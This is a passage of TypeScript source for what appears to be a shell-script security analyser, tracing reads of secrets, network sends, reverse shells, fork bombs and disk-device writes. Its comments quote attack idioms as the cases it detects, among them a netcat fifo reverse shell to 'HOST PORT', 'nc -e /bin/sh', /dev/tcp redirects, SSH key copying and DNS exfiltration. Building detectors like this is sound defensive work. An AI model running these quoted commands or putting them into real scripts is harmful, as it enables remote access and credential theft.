import { expandBraces } from '../../expand-braces.js';
import type {
  ExecFact,
  Fact,
  FileFact,
  LoopFact,
  NetworkFact,
  ProcessFact,
  UnitLanguage,
} from '../../facts.js';
import type { Grammar } from '../../load-grammars.js';
import { isProjectSecretPath, isSensitivePath } from '../../sensitive-paths.js';
import { readPowerShellText } from '../powershell/read-windows-script.js';
import { type Handler, handlerFor } from './command-handlers.js';
import { COMMAND_LINE_VARIABLES, hookArguments } from './command-line-hooks.js';
import { type Arg, type Invocation, NOTHING, type Stream, type Target, TERMINAL } from './invocation.js';
import { isSecretName } from './is-secret-name.js';
import { concatResolved, type Resolved, resolveWord, WORD_BREAK, type WordHost } from './resolve-word.js';
import { type FileContent, ShellScope, type ShellValue } from './shell-scope.js';
import { hasDenseEscapes } from './static-decoders.js';
import {
  DECODED,
  ENVIRONMENT,
  NETWORK,
  SECRET,
  SENSITIVE_FILE,
  taintBits,
  taintList,
  USER_DATA,
} from './taint-bits.js';
import { type SyntaxNode as Node, toSyntaxTree } from './to-syntax-tree.js';
import { baseName, unwrapCommand } from './unwrap-command.js';

/** What encloses the statement being read. */
interface Context {
  stdin: Stream;
  stdout: Target | undefined;
  background: boolean;
  endless: boolean;
  loop: LoopStats | undefined;
  /** Inside a pipeline: a function calling itself here runs concurrently with the other side. */
  piped: boolean;
}

/** What the body of a loop was seen to do. */
interface LoopStats {
  spawns: boolean;
  forks: boolean;
  /** The copies get nothing of their own (`"$0" "$@" &`): each runs this same loop again. */
  replicas: boolean;
  fills: boolean;
}

/** A function of the unit while its body runs for one call. */
interface Frame {
  name: string;
  /** Calls of itself in the background or in a pipeline: each one a concurrent copy. */
  copies: number;
}

/** One redirect, its operator and descriptor normalised (`2>&1`, `&>f`, `<>/dev/tcp/…`). */
interface Redirect {
  fd: string | undefined;
  op: string;
  dest: Node | undefined;
  node: Node;
}

/** Where a descriptor points while one command runs. */
type Fd = { file: string; append: boolean } | { socket: string } | { read: string } | 'null' | undefined;

/** The redirects of one command or compound statement, read before it runs. */
interface Plan {
  stdin: Stream | undefined;
  fds: Map<string, Fd>;
  /** `/dev/tcp` connections the redirects open, judged once the command's output is known. */
  sockets: { target: string; node: Node; input: boolean }[];
  /** Further files one redirect writes: `>> "$f"` inside `for f in ~/.bashrc ~/.zshrc` writes each. */
  alsoWrites: { path: string; append: boolean }[];
  /** The rest of a pipeline the grammar files under a heredoc (`cat <<EOF | sh`). */
  tail: Node | undefined;
}

export interface WalkerOptions {
  grammar: Grammar;
  facts: Fact[];
  scope: ShellScope;
  /** File line of row 0 of the text being read. */
  lineBase: number;
  /** Taint of the command text itself (a downloaded or decoded command line). */
  inherited: number;
  /** How many `sh -c`/`eval`/heredoc levels deep this text is. */
  depth: number;
  /** The unit's own file name, for scripts that start themselves (`./run.sh` inside run.sh). */
  selfName: string;
  /** Function bodies still allowed to be read per call, shared by every level of one unit. */
  budget: { inlines: number };
  /**
   * Reads a program another interpreter runs (`python3 - <<'EOF'`, `node -e "…"`) with that language's
   * own extractor, as code starting on `line`; undefined when the engine has none for it.
   */
  program?: (language: UnitLanguage, code: string, line: number) => Fact[] | undefined;
}

const MAX_CODE_DEPTH = 6;
const MAX_STATEMENT_DEPTH = 200;
const MAX_FRAMES = 8;
const LARGE_LOOP = 1000;

/** Builtins that start no program and only print or set shell state, and prefixes whose command is the program. */
const SILENT_BUILTINS = new Set([
  'echo',
  'printf',
  'cd',
  'pushd',
  'popd',
  ':',
  'true',
  'false',
  'test',
  '[',
  '[[',
  'local',
  'export',
  'declare',
  'typeset',
  'readonly',
  'set',
  'shift',
  'return',
  'exit',
  'read',
  'readarray',
  'mapfile',
  'wait',
  'trap',
  'unset',
  'let',
  'break',
  'continue',
  'shopt',
  'getopts',
  'alias',
  'unalias',
  'type',
  'hash',
  'umask',
  'pwd',
  'eval',
  'history',
  'fc',
  'ulimit',
  'compgen',
  'mkfifo',
  // Runs the command it is given with more arguments; that command is the program.
  'xargs',
]);

/** A path the script holds from `mktemp` (or `tempfile`), as the walker spells the substitution. */
const TEMP_FILE_RE = /^\$\((?:mktemp|tempfile)\b[^)]*\)$/;

const DEV_TCP_RE = /^\/dev\/(tcp|udp)\/([^/]+)\/([^/]+)$/;
/** `/dev/null`, terminals and pseudo-files: writing there changes nothing on disk. */
/** Writing over a disk device destroys every file on it; `/dev/$disk` is one picked from `lsblk` at run time. */
const HARMLESS_DEVICE_RE =
  /^\/dev\/(?:null|zero|full|random|urandom|stdout|stderr|stdin|tty\w*|pts\/|fd\/|shm\/|mqueue|loop|console|ptmx|(?:tcp|udp)\/)/;
/** A loop condition that creates a file or directory each round: it fails only when the disk is full. */
const FILLS_UNTIL_FULL_RE = /^(?:touch|mkdir|fallocate|truncate|dd|cp|ln)\s/;
const ENDLESS_WHILE_RE =
  /^(?:true|:|\/bin\/true|\/usr\/bin\/true|\[\s+1\s+\]|\[\[\s+1\s+\]\]|\(\(\s*1\s*\)\)|sleep\s+\S+)$/;
const ENDLESS_UNTIL_RE = /^(?:false|\/bin\/false|\/usr\/bin\/false|\(\(\s*0\s*\)\))$/;
/** Quotes or a backslash inside a name, or `$IFS` between words: spellings that only exist to dodge review. */
const SPLIT_NAME_RE = /\w(?:''|"")\w|\w\\\w|\$\{?IFS\}?/;

function concatStreams(a: Stream, b: Stream): Stream {
  if (a.taint === 0 && a.text === '' && a.secrets === undefined && !a.endless && !a.socket) return b;
  const text = a.text !== undefined && b.text !== undefined ? a.text + b.text : (a.text ?? b.text);
  const out: Stream = { taint: a.taint | b.taint };
  if (text !== undefined) out.text = text;
  if (a.partial === true || b.partial === true || a.text === undefined || b.text === undefined)
    out.partial = true;
  if (a.secrets !== undefined || b.secrets !== undefined)
    out.secrets = [...new Set([...(a.secrets ?? []), ...(b.secrets ?? [])])];
  if (a.endless === true || b.endless === true) out.endless = true;
  if (a.socket === true || b.socket === true) out.socket = true;
  return out;
}

/** The text of a node when every part of it is a literal word (no expansion to evaluate). */
function staticText(node: Node): string | undefined {
  if (node.type === 'word' || node.type === 'number') return node.text.replace(/\\(.)/g, '$1');
  if (node.type === 'raw_string') return node.text.slice(1, -1);
  if (node.type === 'string' && node.namedChildren.every((c) => c?.type === 'string_content'))
    return node.text.slice(1, -1);
  if (node.type === 'concatenation') {
    let text = '';
    for (const child of node.namedChildren) {
      const part = child === null ? undefined : staticText(child);
      if (part === undefined) return undefined;
      text += part;
    }
    return text;
  }
  return undefined;
}

/**
 * Reads one shell text (a script, a fenced block, a command string, an inline `sh -c` program) into facts,
 * statement by statement in order, so that each word is resolved with the variables assigned before it.
 */
export class ShellWalker implements WordHost {
  readonly scope: ShellScope;
  readonly selfName: string;
  private readonly options: WalkerOptions;
  private readonly facts: Fact[];
  private context: Context;
  private statement: Node | undefined;
  private readonly frames: Frame[] = [];
  private readonly walkedFunctions = new Set<Node>();
  /** Functions this text defines; copies inherited from an enclosing shell are that shell's to read. */
  private readonly definedHere: Node[] = [];
  private readonly reportedBombs = new Set<Node>();
  private readonly envReads = new Set<string>();
  private statementDepth = 0;
  /** `cmd 0<&3`: the grammar reads the `0` as an argument; it is the descriptor of the redirect after it. */
  private readonly descriptorOverrides = new Map<Node, string>();

  constructor(options: WalkerOptions) {
    this.options = options;
    this.facts = options.facts;
    this.scope = options.scope;
    this.selfName = options.selfName;
    this.context = {
      stdin: TERMINAL,
      stdout: undefined,
      background: false,
      endless: false,
      loop: undefined,
      piped: false,
    };
  }

  get depth(): number {
    return this.options.depth;
  }

  /** Parses and reads `text`; never throws on what the text holds. */
  run(text: string, stdin: Stream = TERMINAL): Stream {
    const grammar = this.options.grammar;
    const tree = grammar.parser.parse(text);
    if (tree === null) return NOTHING;
    let root: Node;
    try {
      root = toSyntaxTree(tree, text, grammar.language);
    } finally {
      tree.delete();
    }
    const out = this.evalNode(root, { ...this.context, stdin });
    // A function nobody calls is still code the script ships: read it once, without arguments.
    for (const def of this.definedHere)
      if (!this.walkedFunctions.has(def))
        this.callFunction(
          def,
          hookArguments(def.field('name')?.text ?? ''),
          this.context,
          TERMINAL,
          undefined,
        );
    return out;
  }

  // ---- facts -------------------------------------------------------------------------------------

  emit(fact: Fact): void {
    const inherited = this.options.inherited;
    if (inherited !== 0) {
      if (fact.kind === 'process') fact.argTaint = taintList(inherited | taintBits(fact.argTaint));
      else if (fact.kind === 'exec') fact.input = taintList(inherited | taintBits(fact.input));
      // `subprocess.run(["nslookup", f"{hx}.zone.example"])`: a name built at run time from what the caller
      // held (the environment, hex-encoded) leaves in the DNS query.
      else if (fact.kind === 'network' && fact.op === 'resolve' && /\$/.test(fact.target ?? ''))
        fact.sends = taintList(inherited | taintBits(fact.sends));
    }
    this.facts.push(fact);
  }

  lineOf(node: Node): number {
    return this.options.lineBase + node.row;
  }

  private textOf(node: Node): string {
    return (this.statement ?? node).text;
  }

  fileFact(inv: Invocation, op: FileFact['op'], path: string, extra: Partial<FileFact> = {}): FileFact {
    const fact: FileFact = { kind: 'file', line: inv.line, text: inv.text, op, path, content: [], ...extra };
    this.emit(fact);
    return fact;
  }

  network(
    inv: Invocation,
    op: NetworkFact['op'],
    target: string | undefined,
    sends: number,
    extra: Partial<NetworkFact> = {},
  ): void {
    const fact: NetworkFact = {
      kind: 'network',
      line: inv.line,
      text: inv.text,
      op,
      sends: taintList(sends),
      api: inv.program,
      ...extra,
    };
    if (target !== undefined) fact.target = target;
    this.emit(fact);
  }

  exec(inv: Invocation, api: string, input: number, code?: string): void {
    const fact: ExecFact = { kind: 'exec', line: inv.line, text: inv.text, api, input: taintList(input) };
    if (code !== undefined) fact.code = code;
    this.emit(fact);
  }

  loop(inv: { line: number; text: string }, fields: Omit<LoopFact, 'kind' | 'line' | 'text'>): void {
    this.emit({ kind: 'loop', line: inv.line, text: inv.text, ...fields });
  }

  /** A program a handler starts itself (`nc -e /bin/sh`, `socat … EXEC:bash`), read as a command of its own. */
  startProgram(inv: Invocation, argv: Arg[], io: { stdin?: Stream; socketStdio?: boolean } = {}): Stream {
    return this.invoke(
      argv,
      inv.node,
      { ...this.context, stdin: io.stdin ?? TERMINAL },
      io.socketStdio === true,
      undefined,
      undefined,
    );
  }

  /** Runs a command line built by a handler (`xargs CMD`, `find … -exec CMD {} +`). */
  invokeArgs(inv: Invocation, argv: Arg[], stdin: Stream): Stream {
    return this.invoke(argv, inv.node, { ...this.context, stdin }, false, inv.stdout, undefined);
  }

  /** `sh -c CODE`, `eval CODE`, a heredoc fed to a shell: read the code as shell, on the invoking line. */
  runCode(code: string, line: number, taint: number, stdin: Stream = TERMINAL, shared = false): Stream {
    if (this.options.depth >= MAX_CODE_DEPTH || code.length === 0) return NOTHING;
    const walker = new ShellWalker({
      ...this.options,
      scope: shared ? this.scope : new ShellScope(this.scope),
      lineBase: line,
      inherited: this.options.inherited | taint,
      depth: this.options.depth + 1,
    });
    walker.context = { ...this.context, stdin };
    return walker.run(code, stdin);
  }

  /** Facts of a program in another language, read by its own extractor; false when there is none. */
  readProgram(language: UnitLanguage, code: string, line: number): boolean {
    const facts = this.options.program?.(language, code, line);
    if (facts === undefined) return false;
    for (const fact of facts) this.emit(fact);
    return true;
  }

  noteFill(): void {
    if (this.context.loop !== undefined) this.context.loop.fills = true;
  }

  get endless(): boolean {
    return this.context.endless;
  }

  // ---- paths and files ---------------------------------------------------------------------------

  /** A path as the command sees it: relative paths under the directory the script changed to. */
  path(value: string): string {
    const cwd = this.scope.cwd;
    if (cwd === undefined || value === '' || /^(?:\/|~|\$)/.test(value) || value.includes('://'))
      return value;
    if (value === '.' || value === './') return cwd;
    const rest = value.replace(/^(?:\.\/)+/, '');
    return cwd.endsWith('/') ? cwd + rest : `${cwd}/${rest}`;
  }

  /** What reading a file gives: credentials, the environment, or what the script wrote there. */
  contentOf(path: string): FileContent {
    const written = this.scope.files.get(path);
    if (written !== undefined) return written;
    if (/^\/proc\/(?:self|\d+|\$\$|\*|\$\w+)\/environ$/.test(path)) return { taint: ENVIRONMENT };
    // `tar czf x "$dir"` after `cp ~/.ssh/id_rsa "$dir/"`: a directory holds what was written into it.
    const dir = path.replace(/\/(?:\*|\.)?$/, '');
    let taint = (isSensitivePath(path) ? SENSITIVE_FILE : 0) | (isProjectSecretPath(path) ? SECRET : 0);
    for (const [name, content] of this.scope.files) if (name.startsWith(`${dir}/`)) taint |= content.taint;
    return { taint };
  }

  /** A file a command reads: a fact, and what it holds. */
  readFile(inv: Invocation, arg: Arg, extra: Partial<FileFact> = {}): FileContent {
    if (arg.substitution === true) return { taint: arg.taint };
    const path = this.path(arg.value);
    if (path === '-' || path === '' || path === '/dev/stdin')
      return { taint: inv.stdin.taint, text: inv.stdin.text };
    const content = this.contentOf(path);
    // A read says what it took: the content taint marks a credential read for every rule.
    this.fileFact(inv, 'read', path, { content: taintList(content.taint), ...extra });
    return { taint: content.taint | arg.taint, text: content.text, socket: content.socket };
  }

  /** A file a command writes, with what goes in; the content is remembered for later readers. */
  writeFile(
    inv: { line: number; text: string },
    path: string,
    content: Stream,
    append = false,
    extra: Pick<FileFact, 'empty'> = {},
  ): void {
    if (
      path === '' ||
      path === '/dev/null' ||
      path === '-' ||
      /^\/dev\/(?:stdout|stderr|fd\/|tty)/.test(path)
    )
      return;
    const device = path.startsWith('/dev/') && !HARMLESS_DEVICE_RE.test(path);
    const fact: FileFact = {
      kind: 'file',
      line: inv.line,
      text: inv.text,
      // Writing over a disk device destroys every file on it.
      op: device ? 'delete' : append ? 'append' : 'write',
      path,
      content: taintList(content.taint),
      ...extra,
    };
    if (content.text !== undefined && content.text !== '') fact.contentText = content.text;
    this.emit(fact);
    const previous = append ? this.scope.files.get(path) : undefined;
    const text = content.partial === true ? undefined : content.text;
    this.scope.files.set(path, {
      taint: content.taint | (previous?.taint ?? 0),
      text:
        previous === undefined
          ? text
          : previous.text !== undefined && text !== undefined
            ? previous.text + text
            : undefined,
    });
    if (content.endless === true && !device) {
      this.loop(inv, { endless: true, spawns: false, forks: false, fills: true });
      this.noteFill();
    } else if (append && this.context.endless) this.noteFill();
  }

  // ---- environment -------------------------------------------------------------------------------

  readEnvironment(name: string, node: Node): { taint: number; secrets?: readonly string[] } {
    if (COMMAND_LINE_VARIABLES.has(name)) return { taint: USER_DATA };
    if (!isSecretName(name)) return { taint: 0 };
    const line = this.lineOf(node);
    const key = `${name}:${line}`;
    if (!this.envReads.has(key)) {
      this.envReads.add(key);
      this.emit({ kind: 'env', line, text: this.textOf(node), op: 'read', name });
    }
    return { taint: SECRET, secrets: [name] };
  }

  envDump(inv: Invocation): Stream {
    this.emit({ kind: 'env', line: inv.line, text: inv.text, op: 'dump' });
    return { taint: ENVIRONMENT };
  }

  // ---- words -------------------------------------------------------------------------------------

  resolve(node: Node, quoted = false): Resolved {
    return resolveWord(node, this, quoted);
  }

  substitute(node: Node): Stream {
    const saved = this.scope.cwd;
    const savedStatement = this.statement;
    let out: Stream = NOTHING;
    const inner: Context = {
      ...this.context,
      stdin: TERMINAL,
      stdout: undefined,
      background: false,
      piped: false,
    };
    for (const child of node.namedChildren) {
      if (child === null) continue;
      // `$(<file)` reads the file without a command.
      if (child.type === 'file_redirect') {
        const dest = child.field('destination');
        if (dest === null) continue;
        const path = this.path(this.resolve(dest).values[0] ?? '');
        const line = this.lineOf(child);
        const content = this.contentOf(path);
        this.emit({
          kind: 'file',
          line,
          text: this.textOf(child),
          op: 'read',
          path,
          content: taintList(content.taint),
        });
        out = concatStreams(
          out,
          content.text === undefined
            ? { taint: content.taint }
            : { taint: content.taint, text: content.text },
        );
        continue;
      }
      out = concatStreams(out, this.evalNode(child, inner));
    }
    this.scope.cwd = saved;
    this.statement = savedStatement;
    return out;
  }

  processSubstitute(node: Node): Stream {
    const output = node.children[0]?.type === '>(';
    const saved = this.scope.cwd;
    const savedStatement = this.statement;
    let out: Stream = NOTHING;
    const inner: Context = {
      ...this.context,
      stdin: output ? { taint: 0, redirected: true } : TERMINAL,
      stdout: undefined,
      piped: true,
    };
    for (const child of node.namedChildren)
      if (child !== null) out = concatStreams(out, this.evalNode(child, inner));
    this.scope.cwd = saved;
    this.statement = savedStatement;
    return output ? NOTHING : out;
  }

  // ---- statements --------------------------------------------------------------------------------

  private evalNode(node: Node, ctx: Context): Stream {
    if (this.statementDepth > MAX_STATEMENT_DEPTH) return NOTHING;
    this.statementDepth++;
    const savedContext = this.context;
    this.context = ctx;
    try {
      return this.evalInner(node, ctx);
    } finally {
      this.context = savedContext;
      this.statementDepth--;
    }
  }

  private evalInner(node: Node, ctx: Context): Stream {
    switch (node.type) {
      case 'program':
      case 'compound_statement':
      case 'do_group':
      case 'else_clause':
      case 'elif_clause':
      case 'case_item':
      case 'ERROR':
        return this.evalSequence(node, ctx);
      case 'subshell': {
        const saved = this.scope.cwd;
        const out = this.evalSequence(node, ctx);
        this.scope.cwd = saved;
        return out;
      }
      case 'list':
        return this.evalList(node, ctx);
      case 'pipeline':
        return this.evalPipeline(
          node.namedChildren.filter((c): c is Node => c !== null),
          ctx,
          node,
        );
      case 'redirected_statement':
        return this.evalRedirected(node, ctx);
      case 'command':
        return this.withStatement(node, () => this.evalCommand(node, ctx, []));
      case 'negated_command':
        return this.evalSequence(node, ctx);
      case 'variable_assignment':
        this.withStatement(node, () => this.assign(node));
        return NOTHING;
      case 'variable_assignments':
        this.withStatement(node, () => {
          for (const child of node.namedChildren)
            if (child?.type === 'variable_assignment') this.assign(child);
        });
        return NOTHING;
      case 'declaration_command':
        return this.withStatement(node, () => this.evalDeclaration(node));
      case 'unset_command':
        for (const child of node.namedChildren) if (child !== null) this.scope.vars.delete(child.text);
        return NOTHING;
      case 'if_statement':
      case 'case_statement':
        return this.evalSequence(node, ctx);
      case 'while_statement':
        return this.evalWhile(node, ctx);
      case 'for_statement':
        return this.evalFor(node, ctx);
      case 'c_style_for_statement':
        return this.evalCFor(node, ctx);
      case 'function_definition': {
        const name = node.field('name')?.text;
        if (name !== undefined) {
          this.scope.functions.set(name, node);
          this.definedHere.push(node);
        }
        return NOTHING;
      }
      case 'test_command':
        this.withStatement(node, () => this.evalSubstitutionsIn(node));
        return NOTHING;
      case 'comment':
      case 'heredoc_body':
      case 'heredoc_start':
      case 'heredoc_end':
        return NOTHING;
      case 'command_substitution':
      case 'process_substitution':
      case 'string':
      case 'concatenation':
      case 'expansion':
        // A word on its own line (`$(curl …)` parsed without a command, case values): evaluate its parts.
        this.evalSubstitutionsIn(node);
        return NOTHING;
      default:
        if (node.namedChildren.length > 0 && node.type !== 'word') return this.evalSequence(node, ctx);
        return NOTHING;
    }
  }

  private withStatement<T>(node: Node, f: () => T): T {
    const saved = this.statement;
    // The statement a fact quotes: the whole pipeline or redirected command, not one word of it.
    if (saved === undefined || !isInside(node, saved)) this.statement = node;
    try {
      return f();
    } finally {
      this.statement = saved;
    }
  }

  /** Statements in order; a statement followed by `&` runs in the background. */
  private evalSequence(node: Node, ctx: Context): Stream {
    let out: Stream = NOTHING;
    const children = node.children;
    for (let i = 0; i < children.length; i++) {
      const child = children[i];
      if (child === undefined || child === null || !child.isNamed) continue;
      // Condition and pattern words of if/case are evaluated for their substitutions.
      if (child.type === 'word' || child.type === 'extglob_pattern') continue;
      const background = ctx.background || children[i + 1]?.type === '&';
      const stmtCtx = background === ctx.background ? ctx : { ...ctx, background };
      out = concatStreams(
        out,
        this.withStatement(child, () => this.evalNode(child, stmtCtx)),
      );
    }
    return out;
  }

  private evalList(node: Node, ctx: Context): Stream {
    let out: Stream = NOTHING;
    const children = node.children;
    for (let i = 0; i < children.length; i++) {
      const child = children[i];
      if (child === undefined || child === null || !child.isNamed) continue;
      const background = ctx.background || children[i + 1]?.type === '&';
      const stmtCtx = background === ctx.background ? ctx : { ...ctx, background };
      out = concatStreams(
        out,
        this.withStatement(child, () => this.evalNode(child, stmtCtx)),
      );
    }
    return out;
  }

  /**
   * Each element's output is the next one's input; only the last one's output leaves. `lastRedirects`
   * are redirects the grammar hangs on the whole pipeline (`a | b > f`): the shell applies them to the last
   * element.
   */
  private evalPipeline(
    elements: Node[],
    ctx: Context,
    node: Node | undefined,
    first?: Stream,
    lastRedirects: Node[] = [],
  ): Stream {
    const run = (): Stream => {
      this.prepareFifos(elements, lastRedirects);
      let stdin = first ?? ctx.stdin;
      let out: Stream = NOTHING;
      for (let i = 0; i < elements.length; i++) {
        const element = elements[i];
        if (element === undefined) continue;
        const next = elements[i + 1];
        const stdout = next === undefined ? ctx.stdout : { program: this.peekProgram(next) };
        const elementCtx: Context = { ...ctx, stdin, stdout, piped: elements.length > 1 || ctx.piped };
        out =
          next === undefined && lastRedirects.length > 0
            ? this.evalWithRedirects(element, lastRedirects, elementCtx)
            : this.evalNode(element, elementCtx);
        stdin = { ...out, redirected: true };
      }
      return out;
    };
    return node === undefined ? run() : this.withStatement(node, run);
  }

  /**
   * `cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f`: what nc receives comes back through the fifo, so a
   * file a network client of the pipeline writes into holds network data before the first element reads it.
   */
  private prepareFifos(elements: Node[], lastRedirects: Node[]): void {
    if (elements.length < 2 && lastRedirects.length === 0) return;
    const mark = (program: string, redirects: readonly (Node | null)[]): void => {
      if (!/^(?:nc|ncat|netcat|telnet|socat|openssl)$/.test(program)) return;
      for (const redirect of redirects) {
        const dest = redirect?.field('destination');
        const path =
          dest === null || dest === undefined ? undefined : (staticText(dest) ?? this.peekVariable(dest));
        if (path !== undefined && redirect?.text.startsWith('>') === true)
          this.scope.files.set(this.path(path), { taint: NETWORK, socket: true });
      }
    };
    for (const element of elements)
      if (element.type === 'redirected_statement')
        mark(this.peekProgram(element), element.fields('redirect'));
    const last = elements.at(-1);
    if (last !== undefined && lastRedirects.length > 0) mark(this.peekProgram(last), lastRedirects);
  }

  /** The program an element of a pipeline will run, without evaluating anything. */
  private peekProgram(node: Node): string {
    let n: Node | null = node;
    for (let guard = 0; n !== null && guard < 8; guard++) {
      if (n.type === 'command') {
        const words: string[] = [];
        for (const child of n.namedChildren) {
          if (child === null) continue;
          if (child.type === 'command_name' || (words.length > 0 && child.type !== 'file_redirect')) {
            const word = child.type === 'command_name' ? child.namedChildren[0] : child;
            if (word === null || word === undefined) continue;
            words.push(staticText(word) ?? this.peekVariable(word) ?? '<dynamic>');
            if (words.length > 12) break;
          }
        }
        const argv = words.map((value) => ({ value, taint: 0, dynamic: false, source: value }));
        const start = unwrapCommand(argv).start;
        return baseName(argv[start]?.value ?? '<dynamic>');
      }
      n = n.type === 'redirected_statement' ? n.field('body') : (n.namedChildren[0] ?? null);
    }
    return '<dynamic>';
  }

  private peekVariable(node: Node): string | undefined {
    const name =
      node.type === 'simple_expansion'
        ? node.namedChildren[0]?.text
        : node.type === 'string' &&
            node.namedChildren.length === 1 &&
            node.namedChildren[0]?.type === 'simple_expansion'
          ? node.namedChildren[0]?.namedChildren[0]?.text
          : undefined;
    if (name === undefined) return undefined;
    const value = this.scope.vars.get(name)?.values[0];
    return value === undefined || value.includes('$') ? undefined : value.split(/\s+/)[0];
  }

  private evalRedirected(node: Node, ctx: Context): Stream {
    return this.withStatement(node, () => {
      const body = node.field('body');
      const redirects: Node[] = [];
      for (const r of node.fields('redirect')) if (r !== null) redirects.push(r);
      if (body === null) {
        // `> file` alone truncates the file.
        const plan = this.plan(redirects);
        this.finish(plan, NOTHING, node, ctx);
        return NOTHING;
      }
      return this.evalWithRedirects(body, redirects, ctx);
    });
  }

  /**
   * `a && b > f`: the grammar hangs the redirects of the last command on the whole list; in the shell they
   * belong to that command only (and must be read after `a` ran: `ztcp … && zsh >&$REPLY`).
   */
  private evalWithRedirects(body: Node, redirects: Node[], ctx: Context): Stream {
    if (body.type === 'command') return this.evalCommand(body, ctx, redirects);
    if (body.type === 'pipeline')
      return this.evalPipeline(
        body.namedChildren.filter((c): c is Node => c !== null),
        ctx,
        undefined,
        undefined,
        redirects,
      );
    if (body.type === 'list') {
      const children = body.children;
      let last = children.length - 1;
      while (last >= 0 && children[last]?.isNamed !== true) last--;
      let out: Stream = NOTHING;
      for (let i = 0; i < last; i++) {
        const child = children[i];
        if (child === null || child === undefined || !child.isNamed) continue;
        const background = ctx.background || children[i + 1]?.type === '&';
        out = concatStreams(
          out,
          this.evalNode(child, background === ctx.background ? ctx : { ...ctx, background }),
        );
      }
      const tail = children[last];
      return tail === null || tail === undefined
        ? out
        : concatStreams(out, this.evalWithRedirects(tail, redirects, ctx));
    }
    const plan = this.plan(redirects);
    const io = this.io(plan, ctx);
    const out = this.evalNode(body, { ...ctx, stdin: io.stdin, stdout: io.stdout });
    return this.finish(plan, out, body, ctx);
  }

  // ---- redirects ---------------------------------------------------------------------------------

  private normalise(nodes: Node[]): { redirects: Redirect[]; heredocs: Node[]; tail: Node | undefined } {
    const redirects: Redirect[] = [];
    const heredocs: Node[] = [];
    let tail: Node | undefined;
    let pendingFd: string | undefined;
    const queue = [...nodes];
    for (let q = 0; q < queue.length; q++) {
      const node = queue[q];
      if (node === undefined) continue;
      if (node.type === 'heredoc_redirect') {
        heredocs.push(node);
        for (const child of node.namedChildren) {
          if (child === null) continue;
          if (child.type === 'file_redirect' || child.type === 'herestring_redirect') queue.push(child);
          else if (!/^heredoc_(?:start|body|end)$/.test(child.type)) tail ??= child;
        }
        continue;
      }
      if (node.type === 'herestring_redirect') {
        redirects.push({ fd: '0', op: '<<<', dest: node.namedChildren[0] ?? undefined, node });
        continue;
      }
      let fd: string | undefined = pendingFd ?? this.descriptorOverrides.get(node);
      pendingFd = undefined;
      let op = '';
      const dests: Node[] = [];
      for (const child of node.children) {
        if (child === null) continue;
        if (child.type === 'file_descriptor') fd = child.text;
        else if (child.type === 'ERROR') op += child.text.trim();
        else if (!child.isNamed) op += child.type;
        else dests.push(child);
      }
      // `>& /dev/tcp/h/p 0>&1`: the grammar hands the `0` of `0>&1` to the first redirect.
      if (dests.length === 2 && dests[1]?.type === 'number') pendingFd = dests[1].text;
      redirects.push({ fd, op, dest: dests[0], node });
    }
    return { redirects, heredocs, tail };
  }

  private plan(nodes: Node[]): Plan {
    const plan: Plan = { stdin: undefined, fds: new Map(), sockets: [], alsoWrites: [], tail: undefined };
    if (nodes.length === 0) return plan;
    const { redirects, heredocs, tail } = this.normalise(nodes);
    plan.tail = tail;
    for (const heredoc of heredocs) plan.stdin = this.heredoc(heredoc);
    const current = (fd: string): Fd => {
      if (plan.fds.has(fd)) return plan.fds.get(fd);
      const open = this.scope.descriptors.get(fd);
      return open === undefined
        ? undefined
        : 'socket' in open
          ? { socket: open.socket }
          : { file: open.file, append: true };
    };
    for (const r of redirects) {
      if (r.op === '<<<') {
        if (r.dest === undefined) continue;
        const word = this.resolve(r.dest, true);
        plan.stdin = {
          taint: word.taint,
          text: `${word.values[0] ?? ''}\n`,
          secrets: word.secrets,
          redirected: true,
        };
        if (word.dynamic) plan.stdin.partial = true;
        plan.fds.delete('0');
        continue;
      }
      const dest = r.dest;
      if (dest === undefined) continue;
      const input = r.op.startsWith('<');
      const both = r.op === '&>' || r.op === '&>>';
      const dup =
        (r.op === '>&' || r.op === '<&') &&
        (dest.type === 'number' || /^(?:\d+|-|\$\w+|\$\{\w+\})$/.test(dest.text));
      if (dup) {
        const from = r.fd ?? (input ? '0' : '1');
        const to = this.resolve(dest).values[0] ?? '';
        plan.fds.set(from, to === '-' ? 'null' : current(to));
        continue;
      }
      const values = this.resolve(dest).values;
      for (const raw of values) {
        const path = this.path(raw);
        const tcp = DEV_TCP_RE.exec(path);
        let fd: Fd;
        if (tcp !== null) {
          const target = `${tcp[2]}:${tcp[3]}`;
          plan.sockets.push({ target, node: r.node, input });
          fd = { socket: target };
        } else if (path === '/dev/null') fd = 'null';
        else if (input) {
          fd = { read: path };
          if (r.op !== '<>') {
            const line = this.lineOf(r.node);
            this.emit({
              kind: 'file',
              line,
              text: this.textOf(r.node),
              op: 'read',
              path,
              content: taintList(this.contentOf(path).taint),
            });
          }
        } else fd = { file: path, append: r.op.includes('>>') };
        const targets =
          both || (r.op === '>&' && r.fd === undefined) ? ['1', '2'] : [r.fd ?? (input ? '0' : '1')];
        for (const t of targets) plan.fds.set(t, fd);
        if (fd !== 'null' && 'read' in fd && (r.fd ?? '0') === '0') {
          const content = this.contentOf(path);
          plan.stdin = { taint: content.taint, text: content.text, redirected: true, socket: content.socket };
        }
        if (values.length > 1 && !input && fd !== 'null' && 'file' in fd)
          for (const other of values.slice(1))
            plan.alsoWrites.push({ path: this.path(other), append: fd.append });
        break;
      }
    }
    return plan;
  }

  /** A heredoc's text, expanded unless its delimiter is quoted, as the command's input. */
  private heredoc(node: Node): Stream {
    const start = node.namedChildren.find((c) => c?.type === 'heredoc_start');
    const body = node.namedChildren.find((c) => c?.type === 'heredoc_body');
    if (body === undefined || body === null) return { taint: 0, text: '', redirected: true };
    const quoted = /["'\\]/.test(start?.text ?? '');
    const stripTabs = node.children.some((c) => c?.type === '<<-');
    let stream: Stream;
    if (quoted) stream = { taint: 0, text: body.text, redirected: true };
    else {
      const word = this.resolve(body, true);
      stream = { taint: word.taint, text: word.values[0] ?? '', secrets: word.secrets, redirected: true };
      if (word.dynamic) stream.partial = true;
    }
    if (stripTabs && stream.text !== undefined) stream.text = stream.text.replace(/^\t+/gm, '');
    stream.line = this.lineOf(body);
    return stream;
  }

  /** The standard input and output a command gets from its redirects and from what encloses it. */
  private io(plan: Plan, ctx: Context): { stdin: Stream; stdout: Target | undefined; socketStdio: boolean } {
    const scopeFd = (fd: string): Fd => {
      const open = this.scope.descriptors.get(fd);
      return open === undefined ? undefined : 'socket' in open ? { socket: open.socket } : undefined;
    };
    const fd0 = plan.fds.has('0') ? plan.fds.get('0') : scopeFd('0');
    const fd1 = plan.fds.has('1') ? plan.fds.get('1') : scopeFd('1');
